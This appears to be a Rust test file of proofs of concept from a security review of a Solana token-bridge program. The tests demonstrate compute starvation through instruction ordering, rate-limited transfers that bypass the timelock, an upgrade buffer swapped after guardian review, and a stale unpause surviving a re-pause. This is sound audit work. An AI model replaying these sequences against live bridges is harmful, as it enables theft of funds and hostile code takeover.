//! Proofs of concept of an independent review of protocol v2 (Solana program). Each test
//! passes when the weakness it names is present: it asserts what an attacker obtains. They
//! are evidence for the review report, not regression tests of intended behaviour.

use solana_account::Account;
use solana_instruction::{AccountMeta, Instruction};
use solana_keypair::Keypair;
use solana_pubkey::Pubkey;
use solana_signer::Signer;

use crate::common::*;
use crate::deliver::{Setup, receipt_status};

/// The hostile test recipient (`contracts/solana/test-recipient`).
const ATTACKER: Pubkey = Pubkey::new_from_array([0x66; 32]);

/// The `["remaining", u64 LE]` the test recipient logs.
fn remaining(logs: &[String]) -> u64 {
    let fields = program_data(logs)
        .into_iter()
        .find(|f| f[0] == b"remaining")
        .expect("the recipient logged its compute units");
    u64::from_le_bytes(fields[1].clone().try_into().unwrap())
}

/// PoC (low): `execute_message` reads the transaction's compute-unit limit only from the
/// compute-budget instructions *before* it, and assumes the 200,000 default when there is
/// none. The runtime applies a `SetComputeUnitLimit` wherever it is in the transaction, so one
/// placed *after* `execute_message` lowers the real budget while the check still assumes
/// 200,000: the check passes and the recipient runs with far less than its gas limit (here it
/// reports what it got, through `sol_remaining_compute_units`, enabled in this SVM only).
#[test]
fn compute_limit_placed_after_execute_message_starves_the_recipient() {
    let mut env = Env::new_in(svm_with_remaining_compute_units(), 1, 1);
    env.add_program(ATTACKER, "trestle_test_recipient.so");
    let gas = 150_000u64;
    let m = encode_message(
        0,
        ORIGIN,
        &[0x5e; 32],
        DOMAIN,
        &ATTACKER.to_bytes(),
        &message_body(gas, b"remaining"),
    );
    let sigs = env.attest(&m, 1);
    expect_ok(env.send(&[env.deliver_ix(&m, &sigs, None, None)], &[]));
    // What the program requires fits the 200,000 default it assumes without a limit.
    assert!(required_compute_units(gas, &ATTACKER, 0) <= 200_000);
    let exec = execute_message_ix(&m, &env.receipt(&m), &ATTACKER, vec![]);

    // The honest order: a 40,000 limit before execute_message is refused.
    expect_err(
        env.send(&[compute_limit_ix(40_000), exec.clone()], &[]),
        "InsufficientCompute",
    );
    // The same limit after execute_message: accepted, and the recipient is starved.
    let meta = expect_ok(env.send(&[exec, compute_limit_ix(40_000)], &[]));
    let left = remaining(&meta.logs);
    println!("gas limit {gas}, the recipient got {left} compute units");
    assert!(
        left < 40_000 && left < gas,
        "the recipient got {left} of its {gas}"
    );
    // And the message is consumed (message_executed).
    assert_eq!(env.data(&env.receipt(&m))[9], 5);
}

/// PoC (medium, configuration invariant not enforced): a transfer above the route's inbound
/// capacity but below the token's timelock threshold is queued for the *rate limit* with
/// `release_at = now`; `execute_queued`'s over-capacity rule then pays it at once whenever the
/// bucket is full. Nothing requires `timelock_threshold <= inbound capacity` (the tests'
/// default limits have threshold 1e9 > capacity 1e8), so with forged attestations an attacker
/// takes up to `threshold - 1` per refill period, with no delay for the guardian to cancel,
/// instead of `capacity`. Here: capacity 100 per 10 s, 1,998 paid in 10 s, no timelock.
#[test]
fn over_capacity_rate_limited_transfers_skip_the_timelock() {
    let limits = Limits {
        timelock_threshold: 1_000,
        timelock_delay: 600,
        inbound_capacity: 100,
        inbound_refill: 10,
        ..Limits::default()
    };
    let mut s = Setup::new(1, 1, limits);
    let accounts = s.bridged_accounts();
    let first = s.transfer(&s.bridged_id.clone(), 999u128 * 1_000_000_000);
    expect_ok(s.deliver(&first, &accounts));
    assert_eq!(
        receipt_status(&s.env, &first),
        (2, 2),
        "queued for the rate limit, not the timelock"
    );
    let key = s.env.key(&first);
    // Same second: paid at once, 10x the bucket's capacity, no guardian window.
    expect_ok(s.env.send(&[execute_queued_ix(&key, &accounts)], &[]));
    assert_eq!(s.env.token_balance(&s.bridged_token), 999);

    let second = s.transfer(&s.bridged_id.clone(), 999u128 * 1_000_000_000);
    expect_ok(s.deliver(&second, &accounts));
    let key = s.env.key(&second);
    expect_err(
        s.env.send(&[execute_queued_ix(&key, &accounts)], &[]),
        "RateLimited",
    );
    // capacity / refill = 10 s later the bucket is full again: another 999.
    s.env.advance(10);
    expect_ok(s.env.send(&[execute_queued_ix(&key, &accounts)], &[]));
    assert_eq!(s.env.token_balance(&s.bridged_token), 1_998);
}

fn sdk(ix: trestle_core::solana::instruction::Instruction) -> Instruction {
    Instruction {
        program_id: Pubkey::new_from_array(ix.program_id.0),
        accounts: ix
            .accounts
            .iter()
            .map(|m| AccountMeta {
                pubkey: Pubkey::new_from_array(m.pubkey.0),
                is_signer: m.is_signer,
                is_writable: m.is_writable,
            })
            .collect(),
        data: ix.data,
    }
}

fn addr(p: &Pubkey) -> trestle_core::solana::SolanaAddress {
    trestle_core::solana::SolanaAddress(p.to_bytes())
}

/// PoC (medium): an `Upgrade { buffer, spill }` proposal names the buffer by address only. A
/// buffer whose authority is still an ordinary key when the admin proposes can be rewritten
/// during the delay and handed to the `["upgrade_authority"]` PDA just before execution: the
/// guardian reviews (and does not veto) one program, another one is deployed. Here the
/// reviewed buffer holds the bridge itself; the deployed code is another program (the example
/// recipient, standing for any code: once deployed it can sign as the authority PDA that owns
/// every vault and mints every bridged token).
#[test]
fn an_upgrade_buffer_is_rewritten_after_the_guardian_reviewed_it() {
    use trestle_bridge::solana::BridgeProgram;
    use trestle_bridge::solana::loader;

    let p = BridgeProgram::new(addr(&PROGRAM_ID));
    let mut env = Env::new(1, 1);
    let payer = env.payer.pubkey();
    let slot0 = env.svm.get_sysvar::<solana_clock::Clock>().slot;
    // The hand-over (README "Upgrades", step 1).
    expect_ok(env.send(&[sdk(p.hand_over_upgrade_authority(&addr(&payer)))], &[]));

    // A buffer holding the genuine program, whose authority is a key the proposer holds.
    let rogue = Keypair::new();
    env.svm.airdrop(&rogue.pubkey(), 10_000_000_000).unwrap();
    let reviewed = std::fs::read(program_so()).unwrap();
    let mut data = 1u32.to_le_bytes().to_vec();
    data.push(1);
    data.extend_from_slice(rogue.pubkey().as_ref());
    data.extend_from_slice(&reviewed);
    let buffer = Pubkey::new_unique();
    let lamports = env.svm.minimum_balance_for_rent_exemption(data.len());
    env.svm
        .set_account(
            buffer,
            Account {
                lamports,
                data,
                owner: LOADER_V3,
                executable: false,
                rent_epoch: 0,
            },
        )
        .unwrap();
    let spill = Pubkey::new_unique();

    // The admin proposes; the program accepts a buffer that is not (yet) the PDA's.
    let id = env.propose(&upgrade_action(&buffer, &spill)).unwrap();
    assert_eq!(
        &env.data(&buffer)[37..],
        &reviewed[..],
        "what the guardian reviews"
    );

    // During the delay: other code is written into the buffer, then the buffer is handed over.
    let hostile = std::fs::read(sibling_so("trestle_example_recipient.so")).unwrap();
    let mut image = hostile.clone();
    image.resize(reviewed.len(), 0);
    for (n, chunk) in image.chunks(900).enumerate() {
        let write = loader::write(
            &addr(&buffer),
            &addr(&rogue.pubkey()),
            (n * 900) as u32,
            chunk,
        );
        expect_ok(env.send(&[sdk(write)], &[&rogue]));
    }
    expect_ok(env.send(
        &[sdk(
            p.hand_over_buffer(&addr(&buffer), &addr(&rogue.pubkey())),
        )],
        &[&rogue],
    ));

    // After the delay anyone executes the proposal: the hostile code is deployed.
    env.advance(ADMIN_DELAY);
    env.svm.warp_to_slot(slot0 + 20);
    let accounts = vec![
        AccountMeta::new(program_data_address(), false),
        AccountMeta::new(PROGRAM_ID, false),
        AccountMeta::new(buffer, false),
        AccountMeta::new(spill, false),
        AccountMeta::new_readonly(RENT, false),
        AccountMeta::new_readonly(upgrade_authority_pda(), false),
        AccountMeta::new_readonly(LOADER_V3, false),
    ];
    expect_ok(env.send(&[env.execute_proposal_ix(id, accounts)], &[]));
    env.svm.warp_to_slot(slot0 + 21);
    let deployed = env.data(&program_data_address());
    assert_eq!(&deployed[45..45 + hostile.len()], &hostile[..]);
    assert_ne!(&deployed[45..45 + reviewed.len()], &reviewed[..]);
    // The bridge's address now runs the other program: `pause` is no longer understood (the
    // bridge answers Custom codes; this is the example recipient's InvalidInstructionData).
    let out = env.pause().expect_err("the bridge's code is gone");
    assert_eq!(
        out.err,
        solana_transaction_error::TransactionError::InstructionError(
            0,
            solana_instruction::error::InstructionError::InvalidInstructionData
        ),
        "{:#?}",
        out.meta.logs
    );
}

/// PoC (low): `Unpause` is refused as stale only when it was proposed strictly before the
/// current pause began (`created_at < paused_at`), at one-second resolution. An unpause
/// proposed in the same second as a re-pause, but *before* it (here: proposed while the first
/// pause still holds, just before another unpause executes and the guardian re-pauses at
/// once), counts as made for the new pause, and the guardian cannot veto it.
#[test]
fn an_unpause_proposed_before_a_repause_in_the_same_second_survives_it() {
    let mut env = Env::new(1, 1);
    let guardian = env.guardian.insecure_clone();
    expect_ok(env.pause());
    env.advance(1);
    let first = env.propose(&UNPAUSE).unwrap();
    env.advance(ADMIN_DELAY);
    // Same second: a second unpause is proposed while the first pause holds, the first
    // unpause executes, and the guardian re-pauses at once.
    let queued_in_advance = env.propose(&UNPAUSE).unwrap();
    expect_ok(env.send(&[env.execute_proposal_ix(first, vec![])], &[]));
    expect_ok(env.pause());
    // The guardian cannot veto it ...
    expect_err(
        env.send(
            &[cancel_proposal_ix(&guardian.pubkey(), queued_in_advance)],
            &[&guardian],
        ),
        "GuardianCannotVeto",
    );
    // ... and it lifts the re-pause: it was not refused as stale.
    env.advance(ADMIN_DELAY);
    expect_ok(env.send(&[env.execute_proposal_ix(queued_in_advance, vec![])], &[]));
    assert_eq!(env.data(&config_pda())[77], 0, "unpaused");
}

/// Probe (holds): another program cannot make the bridge accept a `MessageSent` event
/// instruction. The hostile recipient, called directly at top level, invokes the bridge's event
/// instruction with the event authority as its only account: it cannot make the PDA sign, so
/// the bridge refuses (`EventAuthority`) and no such inner instruction can appear in a
/// successful transaction.
#[test]
fn probe_an_event_instruction_cpid_by_another_program_is_refused() {
    let mut env = Env::new(1, 1);
    env.add_program(ATTACKER, "trestle_test_recipient.so");
    let m = encode_message(
        0,
        DOMAIN,
        &[0x11; 32],
        ORIGIN,
        &env.origin_bridge.clone(),
        &transfer_body_to(&[0x22; 32], 1_000, &[0x33; 32]),
    );
    let mut event = EVENT_IX_TAG.to_vec();
    event.extend_from_slice(&event_disc("MessageSent"));
    event.extend_from_slice(&keccak(&[&m]));
    event.extend_from_slice(&ORIGIN.to_le_bytes());
    event.extend_from_slice(&0u64.to_le_bytes());
    event.extend_from_slice(&(m.len() as u32).to_le_bytes());
    event.extend_from_slice(&m);
    let mut payload = b"cpi:".to_vec();
    payload.extend_from_slice(&event);
    let mut data = ix_disc("receive_message").to_vec();
    data.extend_from_slice(&[0u8; 36]);
    data.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    data.extend_from_slice(&payload);
    let wrapper = Instruction::new_with_bytes(
        ATTACKER,
        &data,
        vec![
            AccountMeta::new_readonly(env.payer.pubkey(), false),
            AccountMeta::new_readonly(PROGRAM_ID, false),
            AccountMeta::new_readonly(event_authority_pda(), false),
        ],
    );
    expect_err(env.send(&[wrapper], &[]), "EventAuthority");
}

/// Probe (holds): Token-2022 is refused everywhere a token program or mint is read: a
/// Token-2022 mint cannot be registered (`WrongAccountOwner`), and `send` refuses Token-2022
/// as its token program (`WrongTokenProgram`).
#[test]
fn probe_token_2022_is_refused() {
    const TOKEN_2022: Pubkey =
        Pubkey::from_str_const("TokenzQdBNbLqP5VEhdkAS6EPFLC1PHnBqCXEpPxuEb");
    let mut env = Env::new(1, 1);
    // A Token-2022 mint (same base layout) whose home is this bridge.
    let mint = env.create_mint(&Pubkey::new_unique(), 6);
    let data = env.data(&mint);
    env.put(mint, TOKEN_2022, data);
    let id = token_id(DOMAIN, &mint.to_bytes());
    let action = register_action(DOMAIN, &mint.to_bytes(), &mint, 0, &Limits::default());
    let mut accounts = env.register_token_ix_accounts(&id, &mint, vault_pda(&mint));
    expect_err(env.govern(&action, accounts.clone()), "WrongAccountOwner");
    accounts[4] = AccountMeta::new_readonly(TOKEN_2022, false);
    expect_err(env.govern(&action, accounts), "WrongTokenProgram");

    // An SPL home token, sent with Token-2022 as the token program.
    let user = Keypair::new();
    env.svm.airdrop(&user.pubkey(), 1_000_000_000).unwrap();
    let spl = env.create_mint(&Pubkey::new_unique(), 6);
    let user_token = env.create_token_account(&spl, &user.pubkey(), 1_000);
    let spl_id = env.register_home_token(&spl, Limits::default());
    let mut beneficiary = [0u8; 32];
    beneficiary[12..].fill(0x44);
    let args = SendArgs {
        destination: ORIGIN,
        token_id: spl_id,
        beneficiary,
        amount: 5,
    };
    let mut ix = send_ix(&user.pubkey(), &args, &user_token, &spl, &vault_pda(&spl));
    ix.accounts[8] = AccountMeta::new_readonly(TOKEN_2022, false);
    expect_err(env.send(&[ix], &[&user]), "WrongTokenProgram");
}
